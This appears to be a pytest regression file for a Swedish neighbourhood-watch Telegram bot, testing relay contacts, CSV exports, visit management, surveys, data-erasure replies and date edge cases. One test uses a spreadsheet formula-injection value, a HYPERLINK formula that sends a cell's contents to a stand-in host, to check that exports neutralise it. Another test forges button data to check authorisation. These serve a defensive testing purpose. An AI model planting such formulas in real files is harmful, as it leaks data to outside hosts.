"""Review of last session's handlers (relay, figures, presence, places): each test here
failed on the code before its fix."""

from __future__ import annotations

import csv
import io

import pytest

from handlers.presence_manage import Manage, PresencePress
from handlers.privacy import ForgetMe
from handlers.surveys import Action, SurveyPress
from handlers.witness_buttons import WitnessContact
from storage import groups as group_store
from storage import observations as obs_store
from storage import presence as presence_store
from storage import surveys as survey_store
from storage.observations import NewObservation
from tests.alerts_helpers import compose_alert, make_police, register_groups, text_of
from tests.dialog_helpers import eventually, polls_in
from tests.harness import BotHarness, fixed_clock
from tests.test_police_places_e2e import _coordinated_group
from tests.test_presence_e2e import _announce
from tests.test_surveys_e2e import _all_sent, _compose
from tests.test_witness_relay_e2e import _card, _forwarded, _world


@pytest.fixture
async def clocked(emu, tmp_path):
    harness = BotHarness(emu, tmp_path / "grannvakt.db", clock=fixed_clock())
    await harness.start()
    yield harness
    await harness.stop()


async def test_a_person_in_a_contact_cannot_be_drawn_into_a_second_one_on_the_other_side(bot):
    """Pelle (police) talks with the witness Rut. Pelle also reported something under his
    name; a second officer, Per, may not open a contact with him meanwhile: his answers to
    Rut would go to Per (one open contact per person, whichever side)."""
    emu, pelle, rut, gid = await _world(bot)
    per = emu.add_user("Per", language_code="sv")
    await make_police(bot, per, "0180")
    obs_rut, ref_rut = await _forwarded(bot, gid, rut, show_identity=True)
    obs_pelle, ref_pelle = await _forwarded(bot, gid, pelle, show_identity=True)
    for officer, title in ((pelle, "Polisen i Norr"), (per, "Polisen i Söder")):
        await emu.send_text(officer, f"/profil {title}")
        await emu.wait_for_message(officer.id, lambda m, t=title: t in m.text)
    card = await _card(emu, pelle, ref_rut)
    n = len(emu.sent_messages(rut.id))
    await emu.press_button(pelle, card, data=WitnessContact(obs_rut).pack())
    await emu.wait_for_message(rut.id, lambda m: "vill kontakta dig" in m.text, after=n)

    card = await _card(emu, per, ref_pelle)
    cq = await emu.press_button(per, card, data=WitnessContact(obs_pelle).pack())
    assert "redan en pågående kontakt" in (await emu.wait_for_callback_answer(cq["id"]))["text"]
    open_sessions = "SELECT COUNT(*) FROM relay_sessions WHERE ended_at IS NULL"
    assert await bot.services.db.fetch_value(open_sessions) == 1
    # Pelle's answer reaches Rut, never Per
    n_rut, n_per = len(emu.sent_messages(rut.id)), len(emu.sent_messages(per.id))
    await emu.send_text(pelle, "Tack Rut, vilken färg hade bilen?")
    await emu.wait_for_message(rut.id, lambda m: "vilken färg" in m.text, after=n_rut)
    assert all("vilken färg" not in m.text for m in emu.sent_messages(per.id)[n_per:])


async def test_group_names_in_the_figures_csv_are_never_read_as_formulas(bot):
    """A coordinator names the area "=HYPERLINK(…)": the officer's CSV of an alert's
    figures shows it as text (as the observation export does), never as a formula."""
    emu = bot.emu
    officer = emu.add_user("Olle", language_code="sv")
    chats = [emu.add_group(n, bot_is_member=True) for n in ("Norr", "Söder", "Väster")]
    ids = await register_groups(bot, chats)
    names = ['=HYPERLINK("http://x.example/?"&A1;"Klicka")', "+46 Torget", "@Kyrkan"]
    for group_id, name in zip(ids, names, strict=True):
        await group_store.rename_area(bot.services.db, group_id, name, bot.services.clock.now())
    await make_police(bot, officer)
    confirm = await compose_alert(emu, officer, "Inbrott i källarförråd")
    await text_of(emu, confirm, "Levererat:")
    await emu.send_text(officer, "/larmlista")
    listing = await emu.wait_for_message(officer.id)
    await emu.press_button(officer, listing, text="📊 Per grupp #1")
    figures = await emu.wait_for_message(officer.id, lambda m: "per grupp" in m.text)
    assert names[0] in figures.text  # the message shows the name as it is
    await emu.press_button(officer, figures, text="📄 CSV")
    document = await emu.wait_for_message(officer.id, lambda m: m.kind == "document")
    rows = list(csv.reader(io.StringIO(document.document.decode("utf-8-sig"))))
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in names)


async def test_moving_a_cancelled_visit_is_refused_at_the_press_not_after_the_new_time(clocked):
    """A /narvarolista kept from before the visit was cancelled: its Move button says at
    once that the visit is cancelled, instead of asking for a new time and then refusing
    every answer until /avbryt."""
    bot, emu = clocked, clocked.emu
    officer = emu.add_user("Olle", language_code="sv")
    chat = emu.add_group("Norr", bot_is_member=True)
    await register_groups(bot, [chat])
    await make_police(bot, officer, "0180")
    await _announce(emu, officer, "Kaffe med polisen", "Biblioteket", "2026-11-26 10:00-11:00")
    [visit] = await presence_store.presences_of(bot.services.db, officer.id, 1)
    await emu.send_text(officer, "/narvarolista")
    old_listing = await emu.wait_for_message(officer.id, lambda m: m.reply_markup)
    n = len(emu.sent_messages(officer.id))
    await emu.send_text(officer, "/narvarolista")
    listing = await emu.wait_for_message(officer.id, lambda m: m.reply_markup, after=n)
    await emu.press_button(officer, listing, data=PresencePress(Manage.CANCEL, visit.id).pack())
    await emu.wait_until(lambda: any("Ja, ställ in" in b for b in listing.button_texts()))
    await emu.press_button(officer, listing, data=PresencePress(Manage.CONFIRM, visit.id).pack())
    await emu.wait_for_message(officer.id, lambda m: "Inställt" in m.content)
    n = len(emu.sent_messages(officer.id))
    # the listing pressed follows the new state; the one kept from before still has Move
    cq = await emu.press_button(
        officer, old_listing, data=PresencePress(Manage.MOVE, visit.id).pack()
    )
    assert "redan inställt" in (await emu.wait_for_callback_answer(cq["id"]))["text"]
    # no question about a new time; a text afterwards is no answer to one
    await emu.send_text(officer, "26/11 12:00-13:00")
    answer = await emu.wait_for_message(officer.id, after=n)
    assert "Ny tid" not in answer.content and "redan inställt" not in answer.content


async def test_a_very_long_non_place_is_answered_with_the_howto(bot):
    """`/grupp plats` with almost 4096 characters that are no place: the answer quotes a
    shortened copy and still fits one message (it was Telegram's "message is too long",
    and the coordinator got only the general apology)."""
    emu = bot.emu
    anna, _cia, grp, _group = await _coordinated_group(bot, "sv")
    n = len(emu.sent_messages(grp.id))
    await emu.send_text(anna, "/grupp plats " + "Storgatan " * 408, chat=grp)
    answer = await emu.wait_for_message(grp.id, after=n)
    assert "förstod inte ”Storgatan" in answer.text and "…”" in answer.text
    assert "Svara på en delad plats" in answer.text


async def test_survey_text_reaches_the_poll_exactly_as_typed(clocked):
    """A poll is plain text to people, but PTB's Defaults(parse_mode=HTML) also sets the
    poll's question_parse_mode and each option's text_parse_mode: "<" and "&" made
    Telegram refuse the poll ("can't parse entities") and "<b>" would have been bold."""
    bot, emu = clocked, clocked.emu
    officer = emu.add_user("Olle", language_code="sv")
    chat = emu.add_group("Norr", bot_is_member=True)
    await register_groups(bot, [chat])
    await make_police(bot, officer, "0180")
    question = "Lampor & kameror på <Storgatan>?"
    options = ["Ja <tack>", "Nej & aldrig", "<b>Vet inte</b>"]
    await _compose(emu, officer, "\n".join([question, *options]))
    poll = await emu.wait_until(lambda: polls_in(emu, chat.id) and polls_in(emu, chat.id)[0])
    raw = emu.poll_of(poll)
    assert raw["question"] == question
    assert [o["text"] for o in raw["options"]] == options


async def test_dollar_signs_in_a_survey_do_not_break_its_chart(clocked):
    """matplotlib reads text between two "$" as math: "$^$" or "$\\foo$" in a question, an
    answer or a group name made drawing the chart fail, so /enkater never showed the
    result (the general apology instead)."""
    bot, emu = clocked, clocked.emu
    officer = emu.add_user("Olle", language_code="sv")
    chats = [emu.add_group(n, bot_is_member=True) for n in ("Norr", "Söder")]
    ids = await register_groups(bot, chats)
    now = bot.services.clock.now()
    await group_store.rename_area(bot.services.db, ids[0], "Kv. $^$", now)
    await make_police(bot, officer, "0180")
    await _compose(emu, officer, "Kostar $^$ för mycket?\nJa $\\foo$\nNej, 100$ är ok")
    [survey] = await survey_store.surveys_of(bot.services.db, officer.id, 1)
    await eventually(lambda: _all_sent(bot, survey.id))
    await emu.send_text(officer, "/enkater")
    listing = await emu.wait_for_message(officer.id, lambda m: m.reply_markup)
    before = len(emu.sent_messages(officer.id))
    await emu.press_button(officer, listing, data=SurveyPress(Action.VIEW, survey.id).pack())
    result = await emu.wait_for_message(
        officer.id, lambda m: m.kind == "text" and "Per grupp" in m.content, after=before
    )
    assert "Kostar $^$ för mycket?" in result.content
    assert [m for m in emu.sent_messages(officer.id)[before:] if m.kind == "photo"]


async def test_mydata_and_erasure_answers_fit_a_message_for_a_busy_reporter(bot):
    """Rut filed 200 reports that the coordinators handled. /minadata's summary and the
    /glommig confirmation listed every reference: over Telegram's 4096 characters, so she
    got the general apology — after the erasure, "nothing you saved has gone"."""
    emu, db = bot.emu, bot.services.db
    rut = emu.add_user("Rut", language_code="sv")
    chat = emu.add_group("Norr", members=[rut], bot_is_member=True)
    [gid] = await register_groups(bot, [chat])
    await emu.send_text(rut, "/start")
    await emu.wait_for_message(rut.id)
    now = bot.services.clock.now()
    references = []
    for n in range(200):
        new = NewObservation(
            gid, "0180", rut.id, False, "theft", now, f"Gatan {n}", None, None, False, "Cykel"
        )
        created = await obs_store.create_observation(db, new, now, 2026, now, 1000)
        assert created is not None
        references.append(created[1])
    await db.execute("UPDATE observations SET status = 'reviewed'")
    n = len(emu.sent_messages(rut.id))
    await emu.send_text(rut, "/minadata")
    summary = await emu.wait_for_message(rut.id, lambda m: m.kind == "text", after=n)
    assert "Det här sparar jag om dig" in summary.content
    assert f"{references[0]} (granskad)" in summary.content  # the status in her language
    assert references[20] not in summary.content and "… och 180 till" in summary.content
    await emu.send_text(rut, "/glommig")
    ask = await emu.wait_for_message(rut.id, lambda m: m.reply_markup)
    await emu.press_button(rut, ask, data=ForgetMe(True).pack())
    await emu.wait_until(lambda: "Klart" in ask.content, what="the erasure's confirmation")
    assert references[0] in ask.content and "… och 180 till" in ask.content
    assert all("gick fel" not in m.content for m in emu.sent_messages(rut.id))


async def test_dates_at_the_end_of_the_calendar_are_answered_not_crashed_on(clocked):
    """A visit typed for 31 Dec 9999 past midnight, or a survey closing on 1 Jan year 1,
    overflowed Python's dates (OverflowError): the general apology instead of the step's
    explanation."""
    bot, emu = clocked, clocked.emu
    officer = emu.add_user("Olle", language_code="sv")
    chat = emu.add_group("Norr", bot_is_member=True)
    await register_groups(bot, [chat])
    await make_police(bot, officer, "0180")
    await emu.send_text(officer, "/narvaro")
    await emu.wait_for_message(officer.id)
    await emu.send_text(officer, "Kaffe")
    await emu.wait_for_message(officer.id)
    await emu.send_text(officer, "Torget")
    await emu.wait_for_message(officer.id)
    for typed in ("9999-12-31 23:00-01:00", "31/12/9999 23:00-01:00"):
        n = len(emu.sent_messages(officer.id))
        await emu.send_text(officer, typed)
        answer = await emu.wait_for_message(officer.id, after=n)
        assert "Det förstod jag inte" in answer.content, typed
    await emu.send_text(officer, "/avbryt")
    await emu.wait_for_message(officer.id, lambda m: "avbr" in m.content.lower())

    await emu.send_text(officer, "/enkat")
    await emu.wait_for_message(officer.id)
    await emu.send_text(officer, "Trygg?\nJa\nNej")
    await emu.wait_for_message(officer.id, lambda m: m.reply_markup)
    for typed, said in (
        ("0001-01-01 00:30", "Det förstod jag inte"),  # before the calendar's first day in UTC
        ("9999-12-31 23:59", "Stängningstiden ska vara"),
    ):
        n = len(emu.sent_messages(officer.id))
        await emu.send_text(officer, typed)
        answer = await emu.wait_for_message(officer.id, after=n)
        assert said in answer.content, typed


async def test_another_officers_survey_and_visit_buttons_are_refused_by_the_services(clocked):
    """Held buttons (the guard lets them through: they are on the presser's own message)
    for a survey or a visit of another officer in the same kommun: the services refuse
    them (creator or admin only), politely, and nothing changes."""
    bot, emu = clocked, clocked.emu
    olle, per = emu.add_user("Olle", language_code="sv"), emu.add_user("Per", language_code="sv")
    chat = emu.add_group("Norr", bot_is_member=True)
    await register_groups(bot, [chat])
    for officer in (olle, per):
        await make_police(bot, officer, "0180")
    await _compose(emu, olle, "Trygg?\nJa\nNej")
    await _announce(emu, olle, "Kaffe", "Torget", "2026-11-26 10:00-11:00")
    db = bot.services.db
    [survey] = await survey_store.surveys_of(db, olle.id, 1)
    [visit] = await presence_store.presences_of(db, olle.id, 1)
    await emu.send_text(per, "/hjalp")
    held = await emu.wait_for_message(per.id)
    presses = [
        SurveyPress(Action.VIEW, survey.id).pack(),
        SurveyPress(Action.CLOSE, survey.id).pack(),
        PresencePress(Manage.CANCEL, visit.id).pack(),
        PresencePress(Manage.MOVE, visit.id).pack(),
    ]
    forged = {"inline_keyboard": [[{"text": "x", "callback_data": d}] for d in presses]}
    before = len(emu.sent_messages(per.id))
    for data in presses:
        held.reply_markup = forged  # a refused listing press redraws the message pressed
        cq = await emu.press_button(per, held, data=data)
        assert "behörighet" in (await emu.wait_for_callback_answer(cq["id"]))["text"], data
    assert len(emu.sent_messages(per.id)) == before  # no result, no question
    assert (await survey_store.surveys_of(db, olle.id, 1))[0].closed_at is None
    assert not (await presence_store.presences_of(db, olle.id, 1))[0].is_cancelled


async def test_a_visit_that_is_over_is_neither_cancelled_nor_moved_from_an_old_list(clocked):
    """A /narvarolista from before the visit: once it is over, its Cancel button no longer
    tells every group "Cancelled" about a visit that took place (nor Move asks a time)."""
    bot, emu = clocked, clocked.emu
    officer = emu.add_user("Olle", language_code="sv")
    chat = emu.add_group("Norr", bot_is_member=True)
    await register_groups(bot, [chat])
    await make_police(bot, officer, "0180")
    await _announce(emu, officer, "Kaffe med polisen", "Biblioteket", "2026-11-26 10:00-11:00")
    [visit] = await presence_store.presences_of(bot.services.db, officer.id, 1)
    listings = []
    for _ in range(2):  # two lists kept from before: one to cancel from, one to move from
        n = len(emu.sent_messages(officer.id))
        await emu.send_text(officer, "/narvarolista")
        listings.append(await emu.wait_for_message(officer.id, lambda m: m.reply_markup, after=n))
    await emu.wait_until(lambda: len(emu.sent_messages(chat.id)) == 2, what="the posts")
    bot.clock.advance(days=1)  # 2026-11-26 13:00 local: the visit ended at 11:00
    in_group, n = len(emu.sent_messages(chat.id)), len(emu.sent_messages(officer.id))
    for action, listing in zip((Manage.CANCEL, Manage.MOVE), listings, strict=True):
        cq = await emu.press_button(officer, listing, data=PresencePress(action, visit.id).pack())
        assert "redan över" in (await emu.wait_for_callback_answer(cq["id"]))["text"], action
    assert len(emu.sent_messages(officer.id)) == n
    assert not (await presence_store.presences_of(bot.services.db, officer.id, 1))[0].is_cancelled
    assert len(emu.sent_messages(chat.id)) == in_group
    assert all("Inställt" not in m.content for m in emu.sent_messages(chat.id))
